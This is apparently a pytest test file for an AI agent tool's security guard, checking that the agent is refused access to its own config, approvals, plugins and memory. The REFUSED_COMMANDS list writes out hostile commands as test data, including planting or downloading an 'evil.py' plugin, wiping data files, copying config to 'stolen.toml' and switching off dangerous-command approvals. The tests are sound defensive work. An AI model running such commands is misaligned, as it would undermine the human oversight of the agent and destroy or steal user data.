"""hermes's own state (config, approvals, data, cache, plugins, results) is refused by ``check_path`` and the
command guard: for ``HERMES_HOME`` and for the platform defaults, existing or not, through symlinks too."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from hermes_core.security import check_path, classify_command, protect_path, protected_roots


@pytest.fixture
def hermes(fake_home: Path) -> Path:
    """``HERMES_HOME`` of the test; it does not exist yet (nothing has run)."""
    path = Path(os.environ["HERMES_HOME"])
    assert not path.exists()
    return path


WRITE_TARGETS = [
    "{H}/config.toml",
    "{H}/plugins/evil.py",
    "{H}/data/memory/MEMORY.json",
    "{H}/data/results/call-1.txt",
    "{H}/cache/entry-points.json",
    "{H}/anything.toml",
    "~/.local/share/hermes/plugins/evil.py",  # the platform default, while HERMES_HOME is set
    "~/.local/share/hermes/todo/default.json",
    "~/.config/hermes/config.toml",
    "~/.cache/hermes/schema-verdicts.json",
]


@pytest.mark.parametrize("template", WRITE_TARGETS)
def test_writes_into_hermes_state_are_refused_even_before_it_exists(
    hermes: Path, workspace: Path, template: str
) -> None:
    target = template.format(H=hermes)
    verdict = check_path(target, "write", workspace)
    assert verdict.decision == "refuse", (target, verdict)
    assert "hermes's own" in verdict.reason


def test_reads_of_config_and_approvals_are_refused_state_reads_are_not(hermes: Path, workspace: Path) -> None:
    (hermes / "data" / "results").mkdir(parents=True)
    (hermes / "config.toml").write_text("[approvals]\nalways = []\n")
    for target in (hermes / "config.toml", hermes / "other-secrets.toml", "~/.config/hermes/config.toml"):
        assert check_path(target, "read", workspace).decision == "refuse", target
    for target in (hermes / "data" / "results" / "x.txt", hermes / "plugins" / "p.py"):
        assert check_path(target, "read", workspace).decision != "refuse", target


def test_xdg_directories_are_protected_too(
    hermes: Path, workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg-data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg-config"))
    assert (
        check_path(tmp_path / "xdg-data" / "hermes" / "plugins" / "x.py", "write", workspace).decision
        == "refuse"
    )
    assert (
        check_path(tmp_path / "xdg-config" / "hermes" / "config.toml", "read", workspace).decision == "refuse"
    )
    assert check_path(tmp_path / "xdg-data" / "other-app" / "x", "write", workspace).decision != "refuse"
    kinds = {r.path for r in protected_roots()}
    assert str(tmp_path / "xdg-data" / "hermes") in kinds and str(hermes / "plugins") in kinds


def test_a_symlink_in_the_workspace_is_judged_as_its_target(hermes: Path, workspace: Path) -> None:
    (hermes / "plugins").mkdir(parents=True)
    (workspace / "innocent").symlink_to(hermes / "plugins")
    assert check_path("innocent/x.py", "write", workspace).decision == "refuse"


def test_a_workspace_inside_hermes_home_stays_usable(hermes: Path) -> None:
    workspace = hermes / "workspace"
    workspace.mkdir(parents=True)
    assert check_path("notes.txt", "write", workspace).decision == "allow"
    assert check_path("../config.toml", "write", workspace).decision == "refuse"
    assert check_path("../plugins/x.py", "write", workspace).decision == "refuse"
    assert check_path("../other.txt", "write", workspace).decision == "refuse"


def test_an_explicit_config_file_is_protected_once_used(workspace: Path) -> None:
    config = workspace / "hermes.toml"
    config.write_text("[tools]\n")
    assert check_path(config, "write", workspace).decision == "allow"
    protect_path(config)
    assert check_path(config, "write", workspace).decision == "refuse"
    assert check_path(config, "read", workspace).decision == "refuse"


REFUSED_COMMANDS = [
    "cp x.py ~/.local/share/hermes/plugins/",
    "cp x.py $HERMES_HOME/plugins/",
    'cp x.py "${{HERMES_HOME}}/plugins/evil.py"',
    "install -D x.py {H}/plugins/x.py",
    "echo 'import os' | tee {H}/plugins/x.py",
    "echo 'x' > {H}/plugins/x.py",
    "cat x.py >> ~/.local/share/hermes/plugins/x.py",
    "mv x.py {H}/plugins/",
    "ln -s $PWD/x.py {H}/plugins/x.py",
    "ln -s {H}/plugins innocent",
    "mkdir -p {H}/plugins && cp x.py {H}/plugins/",
    "cd {H}/plugins && curl -sO https://example.com/evil.py",
    "cd $HERMES_HOME; echo x > config.toml",
    "rm -f {H}/data/memory/MEMORY.json",
    "rm -rf ~/.local/share/hermes",
    "mv {H}/config.toml /tmp/old.toml",
    "sed -i s/true/false/ {H}/config.toml",
    "truncate -s0 {H}/data/todo/default.json",
    "dd if=/dev/zero of={H}/data/kanban/board.db",
    "sqlite3 {H}/data/kanban/board.db 'delete from tasks'",
    "python3 -c \"open('{H}/plugins/x.py', 'w').write('import os')\"",
    "sed -n 'w {H}/plugins/x.py' x.py",
    "cat {H}/config.toml",
    "grep always ~/.config/hermes/config.toml",
    "cp {H}/config.toml ./stolen.toml",
    "hermes config set approvals.dangerous_commands false",
    "hermes --config {H}/config.toml config set tools.disabled []",
]


@pytest.mark.parametrize("template", REFUSED_COMMANDS)
def test_commands_that_touch_hermes_state_are_refused(hermes: Path, workspace: Path, template: str) -> None:
    command = template.format(H=hermes)
    verdict = classify_command(command, workspace=workspace)
    assert verdict.hardline, (command, verdict.reasons)


ALLOWED_COMMANDS = [
    "ls -la {H}",
    "ls ~/.local/share/hermes/plugins",
    "du -sh {H}/data",
    "cat {H}/data/results/call-1.txt",
    "cp {H}/data/results/call-1.txt ./out.txt",
    "echo {H}/plugins",
    "cp x.py ./y.py",
    "hermes approvals list",
    "hermes tools list",
]


@pytest.mark.parametrize("template", ALLOWED_COMMANDS)
def test_looking_at_hermes_state_is_not_refused(hermes: Path, workspace: Path, template: str) -> None:
    command = template.format(H=hermes)
    verdict = classify_command(command, workspace=workspace)
    assert not verdict.hardline, (command, verdict.reasons)
